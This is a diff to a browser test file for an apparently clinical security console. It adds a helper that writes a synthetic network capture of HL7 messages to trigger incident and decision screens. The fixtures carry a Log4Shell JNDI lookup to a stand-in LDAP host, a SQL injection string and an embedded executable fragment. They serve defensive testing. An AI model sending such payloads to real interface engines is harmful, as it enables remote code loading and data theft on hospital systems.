@@ -1,6 +1,9 @@
 import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { bytes } from '../../packages/wire/src/testing/bytes.ts';
+import { conversationsCapture } from '../../packages/wire/src/testing/conversation-capture.ts';
+import { client, server } from '../../packages/wire/src/testing/play.ts';
 import { accessibilityViolations } from './accessibility.ts';
 import { consoleOfThisFile, follow } from './console-user.ts';
 
@@ -12,6 +15,73 @@ const { console, page, folder } = await consoleOfThisFile();
 async function picture(name: string): Promise<void> {
   if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true });
 }
+
+const message = (...segments: string[]) =>
+  client(bytes(`\x0bMSH|^~\\&|HIS|KH|LIS|KH|20260401||ORU^R01|1|P|2.5\r${segments.join('\r')}\r\x1c\r`));
+const ACCEPTED = server(bytes('\x0bMSH|^~\\&|LIS|KH|HIS|KH|20260401||ACK|1|P|2.5\rMSA|AA|1\r\x1c\r'));
+
+/** Somebody on the network attacks an interface engine through the messages that it takes: an incident opens. */
+async function attackEngine(): Promise<void> {
+  const ends = { clientIp: '10.0.0.66', serverIp: '10.0.0.20', clientPort: 40_000, serverPort: 2575 };
+  const turns = [
+    message(`OBX|1|ST|1||${'$'}{jndi:ldap://203.0.113.9/a}`),
+    ACCEPTED,
+    message("OBX|1|ST|1||' or 1=1; union select name"),
+    ACCEPTED,
+    message('OBX|1|ED|1||^application^octet^Base64^TVqQAAMAAAAEAAAA'),
+    ACCEPTED,
+  ];
+  const capture = join(folder, 'engine.pcap');
+  await writeFile(capture, conversationsCapture([{ ends, turns }]));
+  await follow(page, '/sources');
+  await page.getByLabel('Capture files').setInputFiles(capture);
+  await page.getByRole('row', { name: 'engine.pcap' }).getByText('Finished').waitFor();
+}
+
+describe('decisions, in a real browser', () => {
+  it('are asked for as an incident opens, and told with consequences, care and reasons', async () => {
+    await follow(page, '/decisions');
+    await page.getByRole('heading', { name: 'Nothing asks for a decision' }).waitFor();
+    await attackEngine();
+    await follow(page, '/decisions');
+    await page.getByRole('link', { name: /^INC-1: / }).click();
+    await page.getByRole('button', { name: /Do nothing/ }).waitFor();
+    await page
+      .getByText(/Most of its points come from/)
+      .first()
+      .waitFor();
+    await page
+      .getByRole('link', { name: /The playbook, step by step/ })
+      .first()
+      .waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('decision');
+  });
+
+  it('are chosen by a person, and what came of it is told and learnt', async () => {
+    await page
+      .getByLabel(/^Reason for/)
+      .first()
+      .fill('The laboratory was asked');
+    await page.getByRole('button', { name: 'Choose this' }).first().click();
+    await page.getByText(/^Chosen: /).waitFor();
+    await follow(page, '/decisions?view=chosen');
+    await page.getByRole('button', { name: 'Tell what came of it' }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
+    await page.getByText(/It worked\./).waitFor();
+    await picture('decisions-chosen');
+    await page.getByRole('tab', { name: 'What was learnt' }).click();
+    await page.getByRole('table', { name: 'What was learnt of playbooks' }).getByRole('row').nth(1).waitFor();
+    await page.getByRole('tab', { name: 'Weights' }).click();
+    await page.getByLabel('Care undisturbed').fill('60');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await page.getByText(/Stated by/).waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('decisions-weights');
+    await page.getByRole('button', { name: 'Take the last change back' }).click();
+    await page.getByText(/As SPHINX brings them/).waitFor();
+  });
+});
 
 describe('playbooks, in a real browser', () => {
   it('are found by what happens, and told with the patients first', async () => {
